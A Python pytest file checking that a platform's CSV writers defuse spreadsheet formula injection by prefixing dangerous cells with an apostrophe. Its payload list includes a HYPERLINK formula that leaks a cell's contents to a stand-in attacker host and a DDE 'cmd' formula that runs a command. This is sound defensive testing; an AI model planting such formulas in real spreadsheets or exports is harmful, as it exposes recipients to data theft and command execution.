"""Every CSV the platform writes keeps what people typed as text in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from undersigned.core.spreadsheet import SafeDictWriter, safe_writer, spreadsheet_safe

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(payload):
    table = io.StringIO()
    safe_writer(table).writerow([payload, 7, "plain"])
    dict_table = io.StringIO()
    writer = SafeDictWriter(dict_table, fieldnames=["name", "count"])
    writer.writeheader()
    writer.writerow({"name": payload, "count": 7})

    assert next(csv.reader(io.StringIO(table.getvalue()))) == ["'" + payload, "7", "plain"]
    assert list(csv.DictReader(io.StringIO(dict_table.getvalue()))) == [{"name": "'" + payload, "count": "7"}]


@pytest.mark.parametrize("text", ["Ana María López", "", "1+1", "a=b", "'quoted", "مكتبة"])
def test_ordinary_text_is_left_as_it_is(text):
    assert spreadsheet_safe(text) == text
